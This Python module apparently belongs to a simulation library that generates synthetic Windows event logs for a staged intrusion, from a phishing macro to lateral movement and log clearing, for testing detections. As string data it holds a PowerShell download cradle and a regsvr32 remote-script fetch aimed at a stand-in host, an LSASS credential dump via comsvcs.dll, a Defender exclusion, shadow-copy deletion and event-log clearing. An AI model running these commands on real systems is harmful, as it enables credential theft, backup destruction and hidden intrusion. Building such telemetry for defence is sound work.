"""One attack from the first mail to the cleared log, told step by step.

A document's macro starts an encoded PowerShell; the intruder looks around, blinds the antivirus, dumps credentials,
stays by a scheduled task, moves to the file server by a service, destroys the shadow copies and clears the log.
Addresses are of the documentation ranges (RFC 5737); nothing here does anything by itself.
"""

from base64 import b64encode
from collections.abc import Iterator
from dataclasses import replace
from datetime import datetime, timedelta
from random import Random

from tocsin.simulate import windows
from tocsin.simulate.event import Process, Step, WindowsEvent
from tocsin.simulate.machine import POWERSHELL, SYSTEM32, Machine, guid

DELIVERY = Step("phishing document", "T1566.001")
MACRO = Step("macro starts a shell", "T1204.002")
POWERSHELL_CRADLE = Step("encoded PowerShell", "T1059.001")
DISCOVERY = Step("discovery", "T1087.002")
PROXY_EXECUTION = Step("script through regsvr32", "T1218.010")
DEFENCES = Step("antivirus blinded", "T1685")
CREDENTIALS = Step("credential dump", "T1003.001")
PERSISTENCE = Step("scheduled task", "T1053.005")
LATERAL = Step("lateral movement by service", "T1021.002")
SERVICE = Step("service on the file server", "T1543.003")
IMPACT = Step("shadow copies deleted", "T1490")
COVER = Step("log cleared", "T1685.005")

SERVER_ADDRESS = "203.0.113.66"
_SERVER_NAME = "cdn-parcels.example"
_CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('http://{_SERVER_NAME}/track')"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_DUMP_TRACE = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e"
    "|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6e1a|C:\\Windows\\System32\\comsvcs.dll+1f4a0"
)


def attack(victim: Machine, server: Machine, start: datetime, rng: Random) -> Iterator[WindowsEvent]:
    """Yield the events of the whole attack, each with its step, from the mail (at `start`) to the end 70 minutes on."""

    def at(minutes: float) -> datetime:
        return start + timedelta(minutes=minutes)

    word, delivery = _open_document(victim, at(0))
    yield from delivery
    shell, macro = _run_macro(victim, word, at(1), rng)
    yield from macro
    yield from _look_around(victim, shell, at(4))
    yield from _run_remote_script(victim, shell, at(11))
    yield from _blind_antivirus(victim, shell, at(14), rng)
    yield from _dump_credentials(victim, shell, at(21))
    yield from _stay(victim, shell, at(29))
    yield from _move(victim, server, at(41))
    yield from _destroy(server, at(62))


def _of(step: Step, *events: WindowsEvent) -> list[WindowsEvent]:
    return [replace(event, step=step) for event in events]


def _open_document(victim: Machine, time: datetime) -> tuple[Process, list[WindowsEvent]]:
    outlook = victim.start(victim.explorer, _OFFICE + "OUTLOOK.EXE", f'"{_OFFICE}OUTLOOK.EXE"')
    cache = f"{victim.home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7RTLM2C"
    path = f"{cache}\\Parcel notice 4471.docm"
    word = victim.start(outlook, _OFFICE + "WINWORD.EXE", f'"{_OFFICE}WINWORD.EXE" /n "{path}"')
    events = _of(
        DELIVERY,
        windows.file_created(time, outlook, path),
        windows.process_created(time + timedelta(seconds=4), word),
    )
    return word, events


def _run_macro(victim: Machine, word: Process, time: datetime, rng: Random) -> tuple[Process, list[WindowsEvent]]:
    encoded = b64encode(_CRADLE.encode("utf-16-le")).decode()
    shell = victim.start(word, POWERSHELL, f"powershell.exe -nop -w hidden -enc {encoded}", integrity="High")
    events = _of(MACRO, windows.process_created(time, shell))
    events += _of(
        POWERSHELL_CRADLE,
        windows.script_block(time + timedelta(seconds=1), shell, guid(rng).lower(), _CRADLE),
        windows.name_resolved(time + timedelta(seconds=2), shell, _SERVER_NAME, SERVER_ADDRESS),
        windows.connection(time + timedelta(seconds=2.5), shell, SERVER_ADDRESS, 80, _SERVER_NAME),
    )
    return shell, events


def _look_around(victim: Machine, shell: Process, time: datetime) -> Iterator[WindowsEvent]:
    commands = (
        "whoami.exe /all",
        "systeminfo.exe",
        'net.exe group "Domain Admins" /domain',
        "nltest.exe /dclist:larkfield.example",
    )
    for number, command in enumerate(commands):
        process = victim.start(shell, SYSTEM32 + command.split()[0], command, integrity="High")
        yield from _of(DISCOVERY, windows.process_created(time + timedelta(minutes=number), process))


def _run_remote_script(victim: Machine, shell: Process, time: datetime) -> Iterator[WindowsEvent]:
    command = f"regsvr32.exe /s /n /u /i:http://{_SERVER_NAME}/label.sct scrobj.dll"
    process = victim.start(shell, SYSTEM32 + "regsvr32.exe", command, integrity="High")
    yield from _of(
        PROXY_EXECUTION,
        windows.process_created(time, process),
        windows.connection(time + timedelta(seconds=1), process, SERVER_ADDRESS, 80, _SERVER_NAME),
    )


def _blind_antivirus(victim: Machine, shell: Process, time: datetime, rng: Random) -> Iterator[WindowsEvent]:
    text = "Add-MpPreference -ExclusionPath 'C:\\Users\\Public'"
    yield from _of(DEFENCES, windows.script_block(time, shell, guid(rng).lower(), text))


def _dump_credentials(victim: Machine, shell: Process, time: datetime) -> Iterator[WindowsEvent]:
    target = "C:\\Users\\Public\\thumbs.bin"
    command = f"rundll32.exe {SYSTEM32}comsvcs.dll, MiniDump {victim.lsass.pid} {target} full"
    process = victim.start(shell, SYSTEM32 + "rundll32.exe", command, integrity="High")
    yield from _of(
        CREDENTIALS,
        windows.process_created(time, process),
        windows.process_accessed(time + timedelta(seconds=1), process, victim.lsass, "0x1fffff", _DUMP_TRACE),
        windows.file_created(time + timedelta(seconds=2), process, target),
    )


def _stay(victim: Machine, shell: Process, time: datetime) -> Iterator[WindowsEvent]:
    script = f"{victim.home}\\AppData\\Roaming\\parcels.vbs"
    command = f'schtasks.exe /create /tn "Parcel tracking" /sc onlogon /tr "wscript.exe //b {script}" /f'
    process = victim.start(shell, SYSTEM32 + "schtasks.exe", command, integrity="High")
    registered = time + timedelta(seconds=2)
    yield from _of(
        PERSISTENCE,
        windows.file_created(time - timedelta(seconds=40), shell, script),
        windows.process_created(time, process),
        windows.task_registered(
            registered,
            victim.host,
            victim.person,
            name="\\Parcel tracking",
            command="wscript.exe",
            arguments=f"//b {script}",
        ),
    )


def _move(victim: Machine, server: Machine, time: datetime) -> Iterator[WindowsEvent]:
    """Log on to the server with the dumped credentials of the administrator and run a copied tool as a service."""
    host, thief, address = server.host, server.person, victim.host.address
    yield from _of(
        LATERAL,
        windows.logon(time, host, thief, 3, address),
        windows.privileges_assigned(time, host, thief),
        windows.share_accessed(
            time + timedelta(seconds=3),
            host,
            thief,
            address,
            share="\\\\*\\ADMIN$",
            file="Temp\\prcsvc.exe",
            write=True,
        ),
    )
    image = "C:\\Windows\\Temp\\prcsvc.exe"
    tool = server.start_as_system(server.services, image, image)
    shell = server.start_as_system(tool, SYSTEM32 + "cmd.exe", "cmd.exe /q /c whoami")
    yield from _of(
        SERVICE,
        windows.service_installed(time + timedelta(seconds=9), host, "prcsvc", image, "demand start"),
        windows.process_audited(time + timedelta(seconds=10), tool, None),
        windows.process_audited(time + timedelta(seconds=12), shell, None),
    )


def _destroy(server: Machine, time: datetime) -> Iterator[WindowsEvent]:
    shell = server.start_as_system(server.services, SYSTEM32 + "cmd.exe", "cmd.exe /q")
    delete = server.start_as_system(shell, SYSTEM32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet")
    yield from _of(IMPACT, windows.process_audited(time, delete, None))
    clear = server.start_as_system(shell, SYSTEM32 + "wevtutil.exe", "wevtutil.exe cl Security")
    yield from _of(
        COVER,
        windows.process_audited(time + timedelta(minutes=7), clear, None),
        windows.log_cleared(time + timedelta(minutes=8), server.host, server.person),
    )
